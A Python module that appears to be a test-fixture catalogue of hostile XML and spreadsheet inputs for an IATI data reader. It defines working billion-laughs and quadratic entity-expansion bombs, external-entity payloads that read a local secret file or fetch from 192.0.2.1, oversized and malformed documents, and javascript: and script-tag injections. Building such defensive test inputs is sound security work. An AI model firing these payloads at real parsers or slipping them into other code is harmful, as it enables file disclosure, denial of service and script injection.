"""Markup that means harm. This module is the list of it."""

from collections.abc import Mapping
from pathlib import Path

from attacking import Attack, doctored_workbook, half, made, secret, written

_ACTIVITY = (
    "<iati-activity><iati-identifier>{one}</iati-identifier>"
    "<title><narrative>{title}</narrative></title></iati-activity>"
)


def _iati(body: str, head: str = "") -> str:
    return f'{head}<iati-activities version="2.03">{body}</iati-activities>'


def _laughs(depth: int = 10) -> str:
    entities = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, depth))
    return f'<?xml version="1.0"?><!DOCTYPE iati-activities [<!ENTITY l0 "lol">{entities}]>'


def _external(address: str) -> Attack:
    def attack(folder: Path) -> Path:
        head = f'<!DOCTYPE iati-activities [<!ENTITY x SYSTEM "{address.format(secret=secret(folder))}">]>'
        return written("external.xml", _iati(_ACTIVITY.format(one="X1", title="&x;"), head))(folder)

    return attack


MARKUP: Mapping[str, Attack] = {
    "a billion laughs": written("a.xml", _iati(_ACTIVITY.format(one="X1", title="&l9;"), _laughs())),
    "a billion laughs in UTF-16": made(
        "a.xml", lambda: _iati(_ACTIVITY.format(one="X1", title="&l9;"), _laughs()[21:]).encode("utf-16")
    ),
    "a quadratic blow-up": made(
        "a.xml",
        lambda: _iati(
            _ACTIVITY.format(one="X1", title="&x;" * 100_000),
            f'<!DOCTYPE iati-activities [<!ENTITY x "{"x" * 100_000}">]>',
        ).encode(),
    ),
    "an entity of a file": _external("file://{secret}"),
    "an entity of another machine": _external("http://192.0.2.1/secret"),
    "a parameter entity": written(
        "a.xml", _iati("", '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]>')
    ),
    "a document type elsewhere": written("a.xml", _iati("", '<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">')),
    "a very deep document": made("a.xml", lambda: _iati("<a>" * 500_000 + "</a>" * 500_000).encode()),
    "a very wide element": made(
        "a.xml", lambda: _iati("<a " + " ".join(f'a{at}="1"' for at in range(300_000)) + "/>").encode()
    ),
    "a very long text": made("a.xml", lambda: _iati(_ACTIVITY.format(one="X1", title="x" * 45_000_000)).encode()),
    "very many elements": made("a.xml", lambda: _iati("<a/>" * 10_000_000).encode()),
    "very large markup": made("a.xml", lambda: _iati("<!--" + "x" * 60_000_000 + "-->").encode()),
    "a workbook of laughs": made(
        "a.xlsx",
        lambda: doctored_workbook(
            "xl/sharedStrings.xml", lambda content: _laughs().encode() + content[content.index(b"<sst") :]
        ),
    ),
    "a page of the web as IATI": written("a.xml", "<html><script>alert(1)</script></html>"),
    "half a document": made("a.xml", lambda: half(_iati(_ACTIVITY.format(one="X1", title="x") * 100).encode())),
    "a document of NULs": made("a.xml", lambda: _iati(_ACTIVITY.format(one="X1", title="a\0b")).encode()),
    "a script as the address of a source": written(
        "a.xml",
        _iati(
            _ACTIVITY.format(one="X1", title="x").replace(
                "</iati-activity>", '<document-link url="javascript:alert(1)"/></iati-activity>'
            )
        ),
    ),
}
